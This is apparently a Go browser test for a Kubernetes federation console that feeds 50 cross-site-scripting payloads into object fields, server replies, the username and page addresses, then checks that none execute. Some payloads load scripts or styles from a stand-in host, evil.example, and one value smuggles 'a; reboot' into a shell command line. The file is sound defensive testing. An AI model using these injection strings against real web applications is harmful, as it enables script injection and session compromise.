package consoletest

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"federation/apiserver/apis/federation/v1beta1"
)

// payloads would set window.hurt if they were taken for markup, a script, a URL or a template.
var payloads = []string{
	`<img src=x onerror=window.hurt=1>`, `<script>window.hurt=1</script>`, `javascript:window.hurt=1`, `"><svg onload=window.hurt=1>`, "${window.hurt=1}", `{{window.hurt=1}}`,
	`</textarea><iframe srcdoc='<script>parent.hurt=1</script>'>`, "\u202eknil\u202c<a href=javascript:window.hurt=1>x</a>", `' onmouseover='window.hurt=1`, `" autofocus onfocus="window.hurt=1`,
	`<body onload=window.hurt=1>`, `<svg><script>window.hurt=1</script></svg>`, `<svg><animate onbegin=window.hurt=1 attributeName=x dur=1s>`, `<math><mtext><style><img src=x onerror=window.hurt=1>`, `<details open ontoggle=window.hurt=1>`,
	`<video><source onerror=window.hurt=1>`, `<audio src=x onerror=window.hurt=1>`, `<input autofocus onfocus=window.hurt=1>`, `<select autofocus onfocus=window.hurt=1>`, `<marquee onstart=window.hurt=1>`,
	`<iframe src=javascript:parent.hurt=1>`, `<object data=javascript:window.hurt=1>`, `<embed src=javascript:window.hurt=1>`, `<form action=javascript:window.hurt=1><button>x`, `<base href=https://evil.example/>`,
	`<meta http-equiv=refresh content=0;url=https://evil.example/>`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<style>@import 'https://evil.example/x.css';</style>`, `<img src=https://evil.example/x.png>`, `<script src=https://evil.example/x.js></script>`,
	`<script type=module>import('https://evil.example/x.js')</script>`, `</script><script>window.hurt=1</script>`, `</title><script>window.hurt=1</script>`, `</style><script>window.hurt=1</script>`, `--><script>window.hurt=1</script><!--`,
	`]]><script>window.hurt=1</script>`, `<!--<img src=--><img src=x onerror=window.hurt=1>`, `<noscript><p title="</noscript><img src=x onerror=window.hurt=1>">`, `<template><script>window.hurt=1</script></template>`, `<a href="data:text/html,<script>opener.hurt=1</script>">x</a>`,
	`JaVaScRiPt:window.hurt=1`, ` javascript:window.hurt=1`, `vbscript:window.hurt=1`, `data:text/html,<script>parent.hurt=1</script>`, `//evil.example/x`,
	`https://evil.example/"onclick="window.hurt=1`, `&lt;img src=x onerror=window.hurt=1&gt;`, `&#x3C;script&#x3E;window.hurt=1&#x3C;/script&#x3E;`, "`;window.hurt=1;`", `?lit$0$<!--?lit$0$--><img src=x onerror=window.hurt=1>`,
}

// hostileRoutes are all pages, with a place for a payload wherever an address has one.
var hostileRoutes = []string{
	"#/%s", "#/?show=%s", "#/workloads?namespace=%s&kind=%[1]s", "#/workloads?namespace=*&after=%s", "#/services?namespace=%s", "#/workload/deployments.apps/shop/%s", "#/workload/%s/%[1]s/%[1]s", "#/service/shop/%s", "#/service/%s/web",
	"#/ingress/%s/%[1]s", "#/failover?cluster=%s", "#/failover?zone=%s&drained=1", "#/drills?zone=%s&method=%[1]s", "#/drill/%s", "#/events?cluster=%s", "#/events?object=%s&reason=%[1]s",
}

// hostileDrill makes a drill whose texts are payloads, and whose numbers make no sense.
func (f *fleet) hostileDrill(name string, phase v1beta1.DrillPhase, outcome string) error {
	d := &v1beta1.FailoverDrill{
		TypeMeta: metav1.TypeMeta{APIVersion: v1beta1.SchemeGroupVersion.String(), Kind: "FailoverDrill"}, ObjectMeta: metav1.ObjectMeta{Name: name},
		Spec: v1beta1.FailoverDrillSpec{Scope: v1beta1.FailoverDrillScope{Clusters: []string{"a-a-00"}}, Method: v1beta1.DrillShift, Reason: payloads[0]},
	}
	at := metav1.NewMicroTime(time.Now())
	r := &v1beta1.DrillReport{
		Marks: v1beta1.DrillMarks{Injected: &at, Recovering: new(metav1.NewMicroTime(at.Add(-time.Hour))), Failback: map[string]metav1.MicroTime{payloads[3]: at}}, LeftBehind: payloads, Prediction: v1beta1.DrillPrediction{Differences: payloads},
		Samples: []v1beta1.DrillSample{{AfterMilliseconds: -5, Ready: -1}, {AfterMilliseconds: 1 << 60, Ready: 1 << 60, InScope: -7}, {AfterMilliseconds: 3}},
	}
	for _, p := range payloads {
		r.Prediction.Moves = append(r.Prediction.Moves, v1beta1.ReplicaMove{Kind: p, Namespace: p, Name: p, Reason: p, Clusters: []v1beta1.ReplicaChange{{Cluster: p}}})
		r.Objectives = append(r.Objectives, v1beta1.DrillObjective{Name: p})
		r.Probes = append(r.Probes, v1beta1.DrillProbeResult{Name: p, From: p, LastFailure: p})
	}
	return f.withStatus(f.admin, unstructuredOf(d), v1beta1.FailoverDrillStatus{Phase: phase, PhaseSince: &at, Outcome: v1beta1.DrillOutcome(outcome), Message: payloads[2], Clusters: payloads, Report: r}, v1beta1.FailoverDrillsResource)
}

// hostileMember answers whatever a member is asked with payloads, one after the other.
func hostileMember(t *testing.T) *httptest.Server {
	t.Helper()
	var asked atomic.Int64
	m := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		p := payloads[int(asked.Add(1))%len(payloads)]
		w.Header().Set("Content-Type", "application/json")
		w.WriteHeader(http.StatusForbidden)
		_ = json.NewEncoder(w).Encode(metav1.Status{TypeMeta: metav1.TypeMeta{Kind: "Status", APIVersion: "v1"}, Status: metav1.StatusFailure, Code: http.StatusForbidden, Reason: metav1.StatusReason(p), Message: p})
	}))
	t.Cleanup(m.Close)
	return m
}

// seedHostile makes objects of all kinds that pages show, with payloads wherever the API takes any text.
func seedHostile(t *testing.T, s *server) {
	t.Helper()
	f, n := s.fleet, len(payloads)
	all, serves, links := v1beta1.ServiceIngresses{}, map[string]int64{}, map[string]string{}
	must(t, f.info(), f.namespace("shop"), f.clusters(n, func(i int, c *v1beta1.Cluster) {
		p := payloads[i]
		lose(c, v1beta1.PhaseFailedOver, p)
		c.Annotations = map[string]string{"example.com/note": p, "federation.kubernetes.io/drain": p}
		c.Status.Region, c.Status.Zones, c.Status.KubernetesVersion, c.Status.UID = p, []string{p}, p, p
		c.Status.Conditions[0].Message, c.Status.Conditions[0].Reason = p, p
		c.Status.Capacity.Unschedulable = []v1beta1.UnschedulablePods{{Namespace: p, Name: p, Pods: 1}}
	}))
	for i, p := range payloads {
		c := member(i, n).Name
		serves[c] = 1
		all.Items = append(all.Items, v1beta1.ClusterServiceIngress{Cluster: c, Items: []corev1.LoadBalancerIngress{{Hostname: p}}})
		links[fmt.Sprintf("%02d", i)] = p + " https://example.com/" + url.PathEscape(p)
		links[fmt.Sprintf("%02d-b", i)] = "Title " + p
		must(t, f.event("default", corev1.ObjectReference{Kind: "Cluster", Name: p, APIVersion: "v1"}, p, p),
			f.event("shop", corev1.ObjectReference{Kind: p, Namespace: "shop", Name: p, APIVersion: "v1"}, p, p))
		zone := v1beta1.FailoverReadinessSpec{Zone: fmt.Sprintf("region-%02d/a", i)}
		must(t, f.readiness(zone, v1beta1.FailoverReadinessStatus{LastDrill: &v1beta1.ReadinessDrill{Name: p, Outcome: p}, Headroom: &v1beta1.ReadinessHeadroom{Resource: p, Cluster: p},
			Conditions: []metav1.Condition{{Type: v1beta1.ReadinessSurvivable, Status: metav1.ConditionFalse, Reason: "Hostile", Message: p, LastTransitionTime: metav1.Now()}}}))
	}
	must(t, f.links(links), f.deployment("shop", "web", serves, payloads[0]), f.service("shop", "web", member(0, n).Name), f.ingress("shop", "front", "web"), f.balancer("lb-a", payloads[3], 0),
		f.annotate(corev1.SchemeGroupVersion.WithResource("services"), "shop", "web", v1beta1.ServiceIngressesAnnotation, all.String()),
		f.hostileDrill("hostile", v1beta1.DrillFinished, payloads[1]), f.hostileDrill("hostile-too", v1beta1.DrillHolding, ""))
}

// TestHostileNames has objects, a member, the user's own name and addresses say what would do harm if it were taken for markup or a script: 50 payloads, over
// all pages and actions. Nothing runs, nothing is loaded, no link is a script, and the policy has nothing to stop. Acceptance test 6 of the console.
func TestHostileNames(t *testing.T) {
	s := startServer(t)
	if len(payloads) != 50 {
		t.Fatalf("there are %d payloads", len(payloads))
	}
	seedHostile(t, s)
	m := hostileMember(t)
	s.reachable(t, 0, len(payloads), m.Listener.Addr().String(), "t", s.admin.CAData)
	user := payloads[0]
	s.bind(t, user, "cluster-admin", "")
	address := s.console(t, "--as", user)
	b := startBrowser(t, desk)
	b.open(address)
	b.waitCells(len(payloads))
	b.wait(fmt.Sprintf(`document.querySelector(".user")?.innerText === %s`, quote(user)))
	b.eval(`[...document.querySelectorAll(".problems a")].find((e) => e.innerText === "show all").click()`, nil)
	b.wait(fmt.Sprintf(`document.querySelectorAll(".problems li").length >= %d`, len(payloads)))
	b.says("overview", payloads)
	b.show("#/drill/hostile")
	b.wait(`document.querySelectorAll("svg[role=img]").length === 2`)
	b.eval(`document.querySelectorAll("main details").forEach((d) => (d.open = true))`, nil)
	b.says("the drill", payloads)
	b.show("#/events")
	b.wait(`document.querySelector('[aria-label="Events"]')`)
	b.says("events", payloads)
	b.show("#/failover")
	b.wait(`document.querySelector('[aria-label="Readiness"]')`)
	b.says("failover", payloads)
	for _, hash := range []string{"#/workload/deployments.apps/shop/web", "#/service/shop/web", "#/ingress/shop/front", "#/?show=" + member(7, len(payloads)).Name} {
		b.show(hash)
		b.wait(`!document.querySelector("main .loading")`)
		b.harmless(hash)
	}
	b.actsHostile(s)
	for _, route := range hostileRoutes {
		var hashes []string
		for _, p := range payloads {
			hashes = append(hashes, fmt.Sprintf(route, url.PathEscape(p)))
		}
		list, err := json.Marshal(hashes)
		must(t, err)
		b.eval(fmt.Sprintf(`(async () => { for (const hash of %s) { location.hash = hash; for (let i = 0; i < 3; i++) await new Promise(requestAnimationFrame) } })()`, list), nil)
		b.harmless(route)
	}
	b.show("#/workloads?namespace=" + url.QueryEscape("a; reboot"))
	b.wait(`document.querySelector("main .cli code")?.innerText === "kubectl get deployments -n 'a; reboot'"`) // what is to be pasted is one word to a shell
	b.checkClean(origin(t, address))
}

// actsHostile types payloads wherever the console takes text, and begins each action with some.
func (b *browser) actsHostile(s *server) {
	b.t.Helper()
	const typeIn = `(() => { const e = document.querySelector(%s); e.value = %s; e.dispatchEvent(new Event("input", {bubbles: true})) })()`
	b.show("#/")
	b.wait(`!document.querySelector("dialog[open]")`)
	for _, p := range payloads {
		b.press("/")
		b.wait(`document.getElementById("search").open`)
		b.eval(fmt.Sprintf(typeIn, quote("#search-word"), quote(p)), nil)
		b.eval(`new Promise((done) => { document.getElementById("search").addEventListener("close", () => setTimeout(done), {once: true}); document.querySelector("#search .quiet").click() })`, nil)
	}
	b.harmless("search")
	cluster := member(1, len(payloads)).Name
	for _, a := range [][2]string{{"Cordon", ""}, {"Uncordon", ""}, {"Drain", cluster}} {
		b.openAct(cluster, a[0])
		if a[1] != "" {
			b.eval(fmt.Sprintf(typeIn, quote("#typed"), quote(payloads[9])), nil)
			b.harmless("a wrong confirmation")
			b.eval(fmt.Sprintf(typeIn, quote("#typed"), `""`), nil)
		}
		b.confirms(a[1])
		b.harmless(a[0])
	}
	for i, p := range payloads {
		b.show(fmt.Sprintf("#/drills?cluster=%s", member(i, len(payloads)).Name))
		b.wait(fmt.Sprintf(`document.querySelector('main select[name="scope"]')?.value === %s`, quote("cluster:"+member(i, len(payloads)).Name)))
		b.eval(fmt.Sprintf(`(() => { const f = document.querySelector("main form"); f.elements.reason.value = f.elements.name.value = %s; f.requestSubmit() })()`, quote(p)), nil)
		b.wait(fmt.Sprintf(`document.querySelector("#act .cli code")?.textContent.includes(%s)`, quote(strings.Fields(strings.ReplaceAll(p, "'", " "))[0])))
		b.harmless("a drill")
		if i == 0 {
			b.confirms(member(i, len(payloads)).Name)
			b.wait(`document.querySelector(".runs")?.innerText.includes("failed")`) // no drill may have that name: the page says so in the server's words
			b.harmless("a drill that is refused")
			continue
		}
		b.eval(`document.querySelector("#act .quiet[type=button]").click()`, nil)
		b.wait(`!document.getElementById("act").open`)
	}
	b.show("#/drill/hostile-too")
	b.wait(`document.querySelector(".band .danger")`)
	b.eval(`document.querySelector(".band .danger").click()`, nil)
	s.until(b.t, "it is aborted", func() bool { return s.getDrill(b.t, "hostile-too").Status.Abort != nil })
	b.harmless("abort")
}

// turns are the characters that turn the direction of text. Firefox leaves them out of what it says that it shows.
var turns = strings.NewReplacer("\u202e", "", "\u202c", "")

// says fails the test for payloads that the page does not show as text, each somewhere.
func (b *browser) says(page string, want []string) {
	b.t.Helper()
	var missing []string
	text := turns.Replace(b.text())
	for _, p := range want {
		if !strings.Contains(text, turns.Replace(strings.TrimSpace(p))) {
			missing = append(missing, p)
		}
	}
	if len(missing) > 0 {
		b.t.Errorf("%s does not show %q", page, missing)
	}
	b.harmless(page)
}

// harmless fails the test if a payload has run, or has become an element, an attribute or a link that could run.
func (b *browser) harmless(page string) {
	b.t.Helper()
	var hurt bool
	var found []string
	b.eval(`"hurt" in window`, &hurt)
	b.eval(`[...document.querySelectorAll("*")].filter((e) => e.matches("iframe, object, embed, base, form[action], meta[http-equiv], math, video, audio, marquee, template, script:not([src='main.js']), link:not([href^='http'], [href$='.js'], [href$='.css'], [href$='.svg']), img:not([src='icon.svg'])")
		|| [...e.attributes].some((a) => a.name.startsWith("on")) || e.href && !/^https?:/.test(e.href.baseVal ?? e.href)).map((e) => e.outerHTML.slice(0, 200))`, &found)
	if hurt || len(found) > 0 {
		b.t.Errorf("%s: a payload ran: %v; elements that no view has: %q", page, hurt, slices.Compact(found))
	}
}
